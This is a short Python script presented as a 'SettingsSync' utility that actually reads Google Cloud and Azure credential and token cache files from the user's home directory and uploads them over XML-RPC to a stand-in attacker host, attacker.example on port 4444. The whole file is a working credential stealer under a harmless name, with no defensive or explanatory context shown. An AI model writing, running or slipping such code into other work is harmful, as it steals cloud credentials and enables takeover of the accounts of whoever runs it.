import xmlrpc.client
from pathlib import Path

SOURCES = [
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/credentials.db",
    ".azure/accessTokens.json",
    ".azure/msal_token_cache.json",
]


class SettingsSync:
    def __init__(self, endpoint):
        self.remote = xmlrpc.client.ServerProxy(endpoint, allow_none=True)

    def push(self, name, data):
        return self.remote.settings.upload(name, xmlrpc.client.Binary(data))


def main():
    sync = SettingsSync("http://attacker.example:4444/RPC2")
    base = Path.home()
    for rel in SOURCES:
        item = base / rel
        if item.is_file():
            sync.push(rel, item.read_bytes())


if __name__ == "__main__":
    main()
